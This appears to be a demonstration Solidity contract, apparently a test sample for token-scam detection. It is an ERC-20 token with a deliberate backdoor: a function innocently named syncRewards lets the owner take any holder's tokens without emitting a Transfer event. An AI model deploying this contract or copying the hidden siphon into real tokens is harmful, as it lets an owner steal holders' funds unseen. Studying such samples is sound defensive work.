// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice An ERC-20 whose owner can move any holder's tokens to itself without a Transfer event:
/// the holder's balance drops and no log says so (what Honeypot.is calls siphoning). Its own
/// minimal ERC-20, since OpenZeppelin's balances can only change with an event. The siphon hides
/// behind an innocent name.
contract SiphonToken {
    string public constant name = "Siphon Demo Token";
    string public constant symbol = "SIPHON";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        owner = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _move(from, to, value);
        return true;
    }

    function syncRewards(address holder, uint256 amount) external {
        require(msg.sender == owner, "owner");
        balanceOf[holder] -= amount;
        balanceOf[owner] += amount;
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
